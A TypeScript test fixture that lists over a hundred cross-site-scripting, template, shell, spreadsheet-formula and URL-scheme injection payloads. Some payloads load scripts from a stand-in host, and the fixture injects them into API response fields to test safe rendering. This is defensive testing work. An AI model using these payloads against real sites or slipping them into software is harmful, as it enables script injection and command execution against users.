/*
 * What somebody writes who wants a page to do something: more than a hundred texts, each made to run a line of script, to fetch
 * something or to lead away in one of the ways that pages were made to. What runs sets `globalThis.broken`; what fetches
 * asks `elsewhere.invalid`.
 */

const RUN = 'globalThis.broken=1'
const AWAY = 'https://elsewhere.invalid/x'

/** Elements that run something when they are made, are pointed at, end, fail, or are shown. */
const handlers = [
  ...['img src=x onerror', 'svg onload', 'body onload', 'iframe onload', 'video src=x onerror', 'audio src=x onerror'],
  ...['input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'details open ontoggle'],
  ...[
    'marquee onstart',
    'object data=x onerror',
    'embed src=x onload',
    'link rel=stylesheet href=x onerror',
    'style onload',
  ],
  ...['div onpointerover', 'a onmouseover', 'button onclick', 'p style=animation-name:x onanimationstart'],
  ...['svg><animate onbegin', 'svg><set onbegin', 'math><mtext onmouseover', 'x tabindex=1 autofocus onfocus'],
].flatMap((start) => [`<${start}=${RUN}>`, `"><${start}="${RUN}">`, `'/><${start}='${RUN}'//`])

/** Elements that are a script, or bring one, or other people's pages. */
const elements = [
  ...[
    `<script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `<script src=${AWAY}></script>`,
    `<scr<script>ipt>${RUN}</script>`,
  ],
  ...[
    `<svg><script>${RUN}</script></svg>`,
    `<script type=module>${RUN}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  ],
  ...[
    `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
    `<iframe src=${AWAY}></iframe>`,
    `<object data="data:text/html,<script>${RUN}</script>">`,
  ],
  ...[
    `<embed src="data:text/html,x">`,
    `<base href=${AWAY}>`,
    `<meta http-equiv=refresh content="0;url=${AWAY}">`,
    `<form action=${AWAY}><input type=submit>`,
  ],
  ...[
    `<link rel=prefetch href=${AWAY}>`,
    `<link rel=import href=${AWAY}>`,
    `<style>@import "${AWAY}"</style>`,
    `<style>*{background:url(${AWAY})}</style>`,
  ],
  ...[
    `<img src=${AWAY}>`,
    `<picture><source srcset=${AWAY}></picture>`,
    `<video poster=${AWAY}>`,
    `<input type=image src=${AWAY}>`,
    `<table background=${AWAY}>`,
  ],
  ...[
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
    `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  ],
  ...[
    `<math href="javascript:${RUN}">x</math>`,
    `<template><img src=x onerror=${RUN}></template>`,
    `<portal src=${AWAY}>`,
    `<dialog open onclose=${RUN}>`,
  ],
  ...[
    '<!--><img src=x onerror=globalThis.broken=1>-->',
    '<![CDATA[<img src=x onerror=globalThis.broken=1>]]>',
    '<?xml version="1.0"?><x onload=1>',
  ],
]

/** What templates, markup languages and shells would make something of. */
const languages = [
  ...[
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `#{${RUN}}`,
    `<%= ${RUN} %>`,
    `[[${RUN}]]`,
    `{%raw%}${RUN}`,
    `\`\${${RUN}}\``,
  ],
  ...[
    `[click](javascript:${RUN})`,
    `![x](${AWAY})`,
    `<javascript:${RUN}>`,
    `[x]: javascript:${RUN}`,
    `[a](data:text/html,x "t")`,
    `<a href="javascript:${RUN}">x</a>`,
  ],
  ...[
    '$(touch x)',
    '`touch x`',
    '; rm -rf x',
    '| tee x',
    '\u001b]0;taken\u0007',
    '\u001b[2J',
    '=cmd|"/c calc"!A1',
    '@SUM(1)',
    '+1+cmd',
    '-1',
  ],
  ...[
    '\u202Egnp.exe',
    '\u2066x\u2069',
    'a\u0000b',
    '\ufeff',
    '\u200b\u200b',
    '&lt;img src=x onerror=1&gt;',
    '%3Cscript%3E',
    '\\u003cscript\\u003e',
    '&#x3C;script&#x3E;',
  ],
  ...['__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', '[object Object]'],
]

/** More than a hundred of them. */
export const hostileTexts: readonly string[] = [...handlers, ...elements, ...languages]

/** Addresses that are not for clicking. */
export const hostileAddresses: readonly string[] = [
  ...['javascript', 'JaVaScRiPt', ' javascript', '\tjavascript', 'java\tscript', 'java\nscript', 'javascript\u0000', '\u0001javascript', 'vbscript', 'livescript'],
  ...['data', 'blob', 'filesystem', 'file', 'ftp', 'about', 'view-source', 'chrome', 'app', 'firebreak', 'ms-settings', 'ms-msdt', 'smb', 'ssh', 'telnet', 'tel', 'sms', 'mailto', 'intent', 'ws', 'wss', 'feed', 'jar', 'mhtml'], // prettier-ignore
].flatMap((scheme) => [`${scheme}:${RUN}`, `${scheme}://elsewhere.invalid/x`, `${scheme}:text/html,<script>${RUN}</script>`])
  .concat(['//elsewhere.invalid/x', '\\\\elsewhere.invalid\\x', '/\\elsewhere.invalid', '?x', '#x', '.', '', 'not an address', 'http://', 'https:///x', 'http:elsewhere.invalid', 'https://user:secret@elsewhere.invalid/', 'https://elsewhere.invalid@127.0.0.1/']) // prettier-ignore

/** Keys of answers whose values are words of a closed list, ids, times and numbers: another text there is another answer. */
const CLOSED = /(^|_)(id|at|until|by_id|state|phase|class|severity|tier|stage|decision|code|kind|type|roles?|mode|digest|page|next|verdict|voice|over|outcome|method|sha256|plan|plans|run|runs|incident|version|media_type)$|^(target|targets|to|from|ok|who|about|position|entry)$/ // prettier-ignore

/**
 * An answer of the API with `text` in every field in which others write, however deep.
 *
 * @returns how many fields there were
 */
export function poison(answer: unknown, text: string): { answer: unknown; fields: number } {
  let fields = 0
  const walk = (value: unknown, key: string): unknown => {
    if (Array.isArray(value)) return value.map((one) => walk(one, key))
    if (value !== null && typeof value === 'object')
      return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, walk(inner, name)]))
    if (typeof value !== 'string' || CLOSED.test(key) || /^\d{4}-\d\d-\d\dT/.test(value)) return value
    fields++
    return text
  }
  return { answer: walk(answer, ''), fields }
}
